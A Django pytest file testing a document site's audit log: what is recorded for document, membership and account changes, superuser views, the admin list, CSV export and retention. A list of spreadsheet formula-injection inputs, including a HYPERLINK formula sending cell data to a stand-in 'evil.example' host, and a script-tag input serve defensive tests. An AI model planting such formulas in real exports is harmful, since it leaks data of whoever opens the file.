"""What is written down, through which door, and who did it from where; the log in the admin, and its export."""

from __future__ import annotations

import csv
import io
import tracemalloc
from datetime import timedelta

import pytest
from django.contrib.auth.models import Group, User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import connection
from django.test import RequestFactory
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django.utils.translation import override

from searchsite import tasks
from searchsite.documents import audited, uploads
from searchsite.documents.models import Collection, Document, Membership, Role
from searchsite.people import audit, audit_csv
from searchsite.people.admin.log import in_words
from searchsite.people.links import password_path
from searchsite.people.models import Action, Entry

pytestmark = pytest.mark.django_db
LIST = "/admin/people/entry/"
EXPORT = "/admin/people/entry/export/"
FROM = "203.0.113.7"


@pytest.fixture
def closed(db):
    """A collection for members only, which nobody is."""
    return Collection.objects.create(name="Closed", slug="closed")


@pytest.fixture
def admin(admin_client, public, closed):
    """A superuser's browser at a known address, with nothing written down yet."""
    admin_client.defaults["REMOTE_ADDR"] = FROM
    Entry.objects.all().delete()
    return admin_client


def written(*actions: Action) -> list[tuple]:
    """(action, who, about, collection) of the entries of these actions, or of all, in their order."""
    entries = Entry.objects.order_by("pk")
    entries = entries.filter(action__in=actions) if actions else entries
    return list(entries.values_list("action", "username", "about", "collection"))


def post(client, page: str, *args, **data):
    response = client.post(reverse(f"admin:{page}", args=args), data)
    assert response.status_code == 302, response.context and response.context["errors"]
    return response


def members(*rows: dict, existing: int = 0) -> dict:
    """A collection's form of members, as a browser sends it."""
    data = {"memberships-TOTAL_FORMS": len(rows), "memberships-INITIAL_FORMS": existing}
    return data | {f"memberships-{n}-{key}": value for n, row in enumerate(rows) for key, value in row.items()}


# --- documents ----------------------------------------------------------------------------------------------


def test_a_document_is_added_changed_moved_and_deleted_in_the_admin(admin, public, closed):
    post(admin, "documents_document_add", collection=public.pk, title="Plan", text="apples")
    document = Document.objects.get()
    post(admin, "documents_document_change", document.pk, collection=public.pk, title="Plans", text="pears")
    post(admin, "documents_document_change", document.pk, collection=closed.pk, title="Plans", text="pears", tags="x")
    post(admin, "documents_document_delete", document.pk, post="yes")
    assert written(Action.ADDED, Action.CHANGED, Action.MOVED, Action.DELETED) == [
        (Action.ADDED, "admin", "Plan", "Public"),
        (Action.CHANGED, "admin", "Plans", "Public"),
        (Action.MOVED, "admin", "Plans", "Closed"),
        (Action.CHANGED, "admin", "Plans", "Closed"),
        (Action.DELETED, "admin", "Plans", "Closed"),
    ]
    assert set(Entry.objects.values_list("address", flat=True)) == {FROM}
    changed = [entry.details for entry in Entry.objects.order_by("pk")]
    assert changed[1] == {"changed": ["text", "title"]}
    assert changed[2] == {"moved_from": "Public", "moved_from_id": public.pk}
    assert changed[3] == {"changed": ["tags"]}


def test_saving_without_a_change_is_nothing_to_write_down(admin, public, add):
    document = add(public, "apples", title="Plan")
    post(admin, "documents_document_change", document.pk, collection=public.pk, title="Plan", text="apples")
    assert written() == []


def test_documents_deleted_together_are_each_named_by_what_people_saw(admin, public, add):
    titled, found = add(public, "# Found in it\n\napples"), add(public, "pears", title="Given")
    data = {"action": "delete_selected", "_selected_action": [titled.pk, found.pk], "post": "yes"}
    admin.post(reverse("admin:documents_document_changelist"), data)
    assert sorted(written()) == [
        (Action.DELETED, "admin", "Found in it", "Public"),
        (Action.DELETED, "admin", "Given", "Public"),
    ]
    assert set(Entry.objects.values_list("about_id", flat=True)) == {titled.pk, found.pk}


def test_a_collections_deletion_is_one_entry_that_counts_its_documents(admin, public, add):
    add(public, "apples")
    add(public, "pears")
    data = {"action": "delete_selected", "_selected_action": [public.pk], "post": "yes"}
    admin.post(reverse("admin:documents_collection_changelist"), data)
    assert written() == [(Action.COLLECTION_DELETED, "admin", "", "Public")]
    assert Entry.objects.get().details == {"documents": 2}


def deleting(make, delete) -> int:
    """How many queries `delete` takes once `make` has made some documents."""
    make()
    with CaptureQueriesContext(
        connection,
    ) as queries:
        delete()
    return len(queries)


@pytest.mark.parametrize("door", ["action", "collection"])
def test_deleting_many_documents_takes_no_query_for_each(admin, public, door):
    def make(many: int) -> None:
        Document.objects.bulk_create([Document(collection=public, text=f"text {n}") for n in range(many)])

    def delete() -> None:
        ids = list(Document.objects.values_list("pk", flat=True))
        if door == "action":
            data = {"action": "delete_selected", "_selected_action": ids, "post": "yes"}
            admin.post(reverse("admin:documents_document_changelist"), data)
        else:
            Document.objects.all().delete()

    few = deleting(lambda: make(5), delete)
    many = deleting(lambda: make(405), delete)
    assert not Document.objects.exists()
    assert Entry.objects.filter(action=Action.DELETED).count() == 410
    assert many < few + 60, "a few for each batch of rows"


def test_two_thousand_documents_are_deleted_by_one_action(admin, public):
    Document.objects.bulk_create([Document(collection=public, text=f"text {n}") for n in range(2000)])
    ids = list(Document.objects.values_list("pk", flat=True))
    data = {"action": "delete_selected", "_selected_action": ids, "post": "yes"}
    with CaptureQueriesContext(connection) as queries:
        response = admin.post(reverse("admin:documents_document_changelist"), data)
    assert response.status_code == 302
    assert Entry.objects.filter(action=Action.DELETED).count() == 2000
    assert len(queries) < 500


def test_an_upload_is_one_entry(admin, public):
    user = User.objects.get(username="admin")
    upload = uploads.begin(public, user, announced=2)
    uploads.add_file(upload, "a.txt", SimpleUploadedFile("x", b"apples"))
    uploads.add_file(upload, "b.txt", SimpleUploadedFile("x", b"pears"))
    assert written() == [(Action.UPLOADED, "admin", f"#{upload.pk}", "Public")]
    assert Entry.objects.get().details == {"files": 2}


def test_an_import_is_one_entry_by_nobody_and_one_that_finds_nothing_new_is_none(public, tmp_path):
    for name in ("a.txt", "b.txt"):
        (tmp_path / name).write_text(f"text of {name}")
    Entry.objects.all().delete()
    for _twice in range(2):
        call_command("documents", "import", str(tmp_path), collection="Public")
    assert written() == [(Action.IMPORTED, "", str(tmp_path), "Public")]
    entry = Entry.objects.get()
    assert (entry.details, entry.address, entry.user_id) == ({"added": 2}, None, None)
    (tmp_path / "a.txt").unlink()
    call_command("documents", "import", str(tmp_path), "--sync", collection="Public")
    assert written()[1:] == [(Action.DELETED, "", "a.txt", "Public"), (Action.IMPORTED, "", str(tmp_path), "Public")]


# --- collections and members ----------------------------------------------------------------------------------


def test_a_collection_and_its_members_in_the_admin(admin):
    reader, group = User.objects.create_user("reader"), Group.objects.create(name="Readers")
    Entry.objects.all().delete()
    fields = {"name": "Plans", "slug": "plans", "description": "", "visibility": "members"}
    post(admin, "documents_collection_add", **fields, **members({"user": reader.pk, "role": "reader"}))
    collection = Collection.objects.get(slug="plans")
    known = {"id": Membership.objects.get().pk, "collection": collection.pk, "user": reader.pk}
    change = ("documents_collection_change", collection.pk)
    rows = ({**known, "role": "editor"}, {"group": group.pk, "role": "reader"})
    post(admin, *change, **{**fields, "visibility": "public"}, **members(*rows, existing=1))
    rows = ({**known, "role": "editor", "DELETE": "on"}, {"id": Membership.objects.last().pk, **rows[1]})
    post(admin, *change, **{**fields, "visibility": "public"}, **members(*rows, existing=2))
    assert written() == [
        (Action.COLLECTION_ADDED, "admin", "", "Plans"),
        (Action.MEMBER_ADDED, "admin", "reader", "Plans"),
        (Action.COLLECTION_CHANGED, "admin", "", "Plans"),
        (Action.MEMBER_CHANGED, "admin", "reader", "Plans"),
        (Action.MEMBER_ADDED, "admin", "Readers", "Plans"),
        (Action.MEMBER_REMOVED, "admin", "reader", "Plans"),
    ]
    told = [entry.details for entry in Entry.objects.order_by("pk")]
    assert told[2] == {"visibility": ["members", "public"]}
    assert told[3] == {"kind": "person", "role": ["reader", "editor"]}
    assert told[4] == {"kind": "group", "role": "reader"}


def test_a_deleted_account_ends_its_memberships_and_its_entries_stay(admin, closed):
    user = User.objects.create_user("leaver")
    Membership.objects.create(collection=closed, user=user, role=Role.EDITOR)
    audit.record(Action.UPLOADED, by=user, collection=closed, collection_id=closed.pk)
    Entry.objects.exclude(action=Action.UPLOADED).delete()
    post(admin, "auth_user_delete", user.pk, post="yes")
    assert sorted(written()) == sorted(
        [
            (Action.UPLOADED, "leaver", "", "Closed"),
            (Action.MEMBER_REMOVED, "admin", "leaver", "Closed"),
            (Action.ACCOUNT_DELETED, "admin", "leaver", ""),
        ]
    )
    assert Entry.objects.get(action=Action.UPLOADED).user_id is None


def test_entries_outlive_the_document_and_the_collection_they_are_about(public, add):
    audited.document_added(add(public, "apples", title="Plan"))
    public.delete()
    assert (Action.ADDED, "", "Plan", "Public") in written()


# --- accounts ---------------------------------------------------------------------------------------------------


def test_signing_in_failing_to_and_signing_out(client):
    User.objects.create_user("ann", password="correct horse battery")
    Entry.objects.all().delete()
    client.defaults["REMOTE_ADDR"] = FROM
    client.post(reverse("sign_in"), {"username": "ann", "password": "wrong"})
    client.post(reverse("sign_in"), {"username": "ann", "password": "correct horse battery"})
    client.post(reverse("sign_out"))
    assert [(action, who) for action, who, *_ in written()] == [
        (Action.SIGN_IN_FAILED, "ann"),
        (Action.SIGNED_IN, "ann"),
        (Action.SIGNED_OUT, "ann"),
    ]
    assert set(Entry.objects.values_list("address", flat=True)) == {FROM}
    assert "correct horse" not in str(list(Entry.objects.values()))
    assert "wrong" not in str(list(Entry.objects.values()))


def test_rights_groups_and_passwords_of_accounts(admin):
    user, group = User.objects.create_user("ann"), Group.objects.create(name="Law")
    Entry.objects.all().delete()
    user.groups.add(group)
    user.is_staff = True
    user.save()
    user.set_password("x")
    user.save()
    user.groups.clear()
    assert [action for action, *_ in written()] == [
        Action.GROUPS_CHANGED,
        Action.ACCOUNT_CHANGED,
        Action.PASSWORD_CHANGED,
        Action.GROUPS_CHANGED,
    ]
    assert [entry.details for entry in Entry.objects.order_by("pk")] == [
        {"added": ["Law"]},
        {"is_staff": [False, True]},
        {},
        {"removed": ["Law"]},
    ]


# --- looks ------------------------------------------------------------------------------------------------------


def test_a_superusers_look_through_the_admin_is_written_down_once_an_hour(admin, closed, add):
    document = add(closed, "apples", title="Secret plan")
    Entry.objects.all().delete()
    pages = [
        reverse("admin:documents_document_change", args=[document.pk]),
        reverse("admin:documents_document_delete", args=[document.pk]),
        reverse("admin:documents_document_history", args=[document.pk]),
        reverse("admin:documents_document_changelist"),
        reverse("admin:documents_collection_change", args=[closed.pk]),
    ]
    for page in pages * 2:
        assert admin.get(page).status_code == 200
    assert written() == [
        (Action.LOOKED, "admin", "Secret plan", "Closed"),
        (Action.LOOKED, "admin", "admin: list of documents", "Closed"),
        (Action.LOOKED, "admin", "admin: collection", "Closed"),
    ]
    assert set(Entry.objects.values_list("address", flat=True)) == {FROM}
    Entry.objects.update(when=timezone.now() - audit.SAME_LOOK - timedelta(minutes=1))
    admin.get(pages[0])
    assert len(written()) == 4


def test_a_look_at_what_one_is_a_member_of_or_is_open_to_all_is_none(admin, public, closed, add):
    Membership.objects.create(collection=closed, user=User.objects.get(username="admin"), role=Role.READER)
    documents = add(public, "apples"), add(closed, "pears")
    Entry.objects.all().delete()
    admin.get(reverse("admin:documents_document_changelist"))
    for document in documents:
        admin.get(reverse("admin:documents_document_change", args=[document.pk]))
    assert written() == []


def test_a_look_is_written_after_the_answer_and_its_failure_breaks_nothing(admin, closed, add, monkeypatch, caplog):
    document = add(closed, "apples", title="Secret plan")
    Entry.objects.all().delete()
    request = RequestFactory().get("/", REMOTE_ADDR=FROM)
    request.user = User.objects.get(username="admin")
    assert audit.following(lambda _request: audited.look(request.user, [closed.pk], document) or "answer")(request)
    assert written() == []
    audit._finish()  # as request_finished does once a response is sent
    assert written() == [(Action.LOOKED, "admin", "Secret plan", "Closed")]

    def fails(*_args, **_options):
        raise RuntimeError("the disk is full")

    Entry.objects.all().delete()
    monkeypatch.setattr(audit, "looked", fails)
    response = admin.get(reverse("admin:documents_document_change", args=[document.pk]))
    assert response.status_code == 200
    assert "Secret plan" in response.content.decode()
    assert "could not be written down" in caplog.text
    assert written() == []


# --- the log in the admin -----------------------------------------------------------------------------------------


def test_the_log_is_for_superusers_to_read_and_for_nobody_to_change(admin, client):
    entry = audit.record(Action.UPLOADED, username="ann", about="#1")
    change = f"{LIST}{entry.pk}/change/"
    assert "ann" in admin.get(LIST).content.decode()
    page = admin.get(change).content.decode()
    assert 'name="_save"' not in page
    assert "deletelink" not in page
    assert admin.post(change, {"username": "eve", "action": "imported"}).status_code == 403
    assert admin.post(f"{LIST}{entry.pk}/delete/", {"post": "yes"}).status_code == 403
    assert admin.get(f"{LIST}add/").status_code == 403
    admin.post(LIST, {"action": "delete_selected", "_selected_action": [entry.pk], "post": "yes"})
    assert Entry.objects.get(pk=entry.pk).username == "ann"
    assert admin.get(f"{LIST}999999/change/").status_code == 404
    with pytest.raises(TypeError):
        entry.delete()

    from django.contrib.auth.models import Permission

    staff = User.objects.create_user("staff", is_staff=True)
    staff.user_permissions.set(Permission.objects.all())
    client.force_login(staff)
    for address in (LIST, change, f"{LIST}{entry.pk}/history/"):
        assert client.get(address).status_code == 403
    assert client.post(EXPORT).status_code == 403
    assert LIST not in client.get("/admin/").content.decode()


def test_the_log_is_filtered_by_action_day_and_name(admin):
    for who in ("ann", "bob"):
        audit.record(Action.UPLOADED, username=who)
        audit.record(Action.SIGN_IN_FAILED, username=who)
    old = audit.record(Action.UPLOADED, username="ann")
    Entry.objects.filter(pk=old.pk).update(when=timezone.now() - timedelta(days=800))

    def found(**asked) -> int:
        response = admin.get(LIST, asked)
        assert response.status_code == 200
        return len(response.context["cl"].result_list)

    now = timezone.localtime()
    assert found() == 5
    assert found(action__exact="uploaded") == 3
    assert found(q="ann") == 3
    assert found(when__year=now.year) == 4
    assert found(when__year=now.year, when__month=now.month, when__day=now.day) == 4
    assert found(q="ann", action__exact="uploaded", when__year=now.year) == 1


@pytest.mark.parametrize(
    ("details", "words"),
    [
        ({"visibility": ["members", "public"]}, "who may read it: members only → everyone"),
        ({"changed": ["text", "title"]}, "changed: text, title"),
        ({"moved_from": "Law", "moved_from_id": 3}, "from: Law"),
        ({"kind": "person", "role": ["reader", "manager"]}, "kind: person; role: reader → manager"),
        ({"is_staff": [False, True]}, "staff: no → yes"),
        ({"description": ["", "Laws"]}, "description: nothing → Laws"),
        ({"unheard_of": 3}, "unheard_of: 3"),
        ({"backend": "HeaderBackend"}, "by: a proxy"),
        ({"backend": "SingleSignOn"}, "by: single sign-on"),
        ({"reason": "closed"}, "reason: the account is not active"),
        ({"way": "mail"}, "way: e-mail"),
        ({"name": ["a" * 300, "b"]}, f"name: {'a' * 200}… → b"),
        ({}, ""),
    ],
)
def test_details_are_words(details, words):
    assert in_words(details) == words


def test_details_have_full_width_punctuation_in_chinese():
    with override("zh-hans"):
        words = in_words({"changed": ["text", "title"], "kind": "person"})
    assert words == "更新：文本、标题；类型：用户"


def test_whoever_sets_a_password_by_a_link_is_not_the_site_itself(admin, client):
    account = User.objects.create_user("nora")
    account.set_unusable_password()
    account.save()  # as a command does it
    assert "the site itself" in admin.get(LIST, {"q": "nora"}).content.decode()
    Entry.objects.filter(about="nora").exclude(action=Action.ACCOUNT_ADDED).delete()
    form = client.get(password_path(account), follow=True)
    fresh = "kestrel harbour 92"
    client.post(form.request["PATH_INFO"], {"new_password1": fresh, "new_password2": fresh})
    page = admin.get(LIST, {"q": "nora", "action__exact": "password_changed"}).content.decode()
    assert "somebody not signed in" in page
    assert "the site itself" not in page


def test_what_people_made_up_is_no_markup_in_the_list(admin):
    audit.record(Action.UPLOADED, username="<b>eve</b>", about="<script>x</script>", details={"name": ["<i>", "y"]})
    page = admin.get(LIST).content.decode()
    for markup in ("<b>eve", "<script>x", "<i>"):
        assert markup not in page


# --- the export ---------------------------------------------------------------------------------------------------


def exported(client, **asked) -> list[list[str]]:
    response = client.post(f"{EXPORT}?{'&'.join(f'{name}={value}' for name, value in asked.items())}")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


HOSTILE = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "＋1",
    "－1",
    "＠1",
    "  =1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_the_export_is_a_formula(admin, text):
    audit.record(Action.ADDED, username=text, about=text, collection=text, details={"name": text})
    header, row = exported(admin)
    assert header == list(audit_csv.HEADER)
    assert [row[header.index(name)] for name in ("who", "about", "collection")] == [f"'{text}"] * 3
    assert not any(cell.startswith(audit_csv.FORMULA) for cell in row)


def test_the_export_keeps_quotes_commas_lines_and_chinese(admin):
    odd = 'a "quoted", 预算\r\nsecond line; 𝄞'
    entry = audit.record(Action.ADDED, username="王芳", about=odd, details={"name": ["旧", "新"]})
    header, row = exported(admin)
    cells = dict(zip(header, row, strict=True))
    assert (cells["who"], cells["about"], cells["action"]) == ("王芳", odd, "document_added")
    assert cells["details"] == '{"name": ["旧", "新"]}'
    assert cells["when"] == entry.when.isoformat(timespec="seconds")


def test_the_export_holds_what_the_filters_find_and_is_written_down(admin):
    for who in ("ann", "bob", "ann"):
        audit.record(Action.UPLOADED, username=who, about=f"by {who}")
    assert admin.get(EXPORT).status_code == 405
    rows = exported(admin, q="ann")
    assert [row[5] for row in rows[1:]] == ["by ann", "by ann"]
    entry = Entry.objects.get(action=Action.EXPORTED)
    assert (entry.username, entry.address) == ("admin", FROM)
    assert entry.details == {"entries": 2, "filter": "q=ann"}
    everything = exported(admin)
    assert len(everything) == 1 + 4, "with the first export, without this one"
    page = admin.get(LIST, {"q": "ann"}).content.decode()
    assert f'action="{EXPORT}?q=ann"' in page
    assert admin.post(f"{EXPORT}?nonsense=1").status_code == 302


def test_twenty_thousand_entries_are_exported_in_little_memory(admin):
    title = "x" * 400
    made = (Entry(action=Action.ADDED, username="ann", about=f"{n} {title}") for n in range(20_000))
    Entry.objects.bulk_create(made, batch_size=2000)
    response = admin.post(EXPORT)
    parts, size, lines = iter(response.streaming_content), 0, 0
    tracemalloc.start()
    try:
        for part in parts:
            size, lines = size + len(part), lines + part.count(b"\r\n")
        _now, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert lines == 20_001
    assert size > 8_000_000
    assert peak < size / 2


# --- how long it is kept --------------------------------------------------------------------------------------------


def test_entries_stay_unless_the_settings_say_how_long(settings, db):
    old, new = (audit.record(Action.UPLOADED, username=who) for who in ("old", "new"))
    Entry.objects.filter(pk=old.pk).update(when=timezone.now() - timedelta(days=31))
    tasks.sweep_audit_log()
    assert Entry.objects.count() == 2
    settings.SEARCHSITE_AUDIT_DAYS = 30
    tasks.upkeep("worker")
    assert list(Entry.objects.values_list("pk", flat=True)) == [new.pk]
